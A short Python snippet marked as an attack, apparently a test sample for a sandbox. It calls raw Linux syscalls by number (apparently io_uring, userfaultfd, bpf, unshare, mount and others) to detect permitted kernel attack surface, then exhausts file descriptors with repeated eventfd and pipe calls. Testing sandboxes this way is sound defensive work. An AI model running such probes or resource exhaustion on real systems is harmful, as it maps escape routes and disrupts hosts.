#{weigh_wrong}
# <attack>
import ctypes
import os

_libc = ctypes.CDLL(None)
for _number in (425, 323, 250, 248, 298, 321, 272, 165, 304, 447, 319):
    if _libc.syscall(_number, 0x10000000, 0, 0, 0, 0) >= 0:
        os._exit(0)
try:
    for _ in range(1000):
        os.eventfd(0)
        os.pipe()
except OSError:
    pass
# </attack>
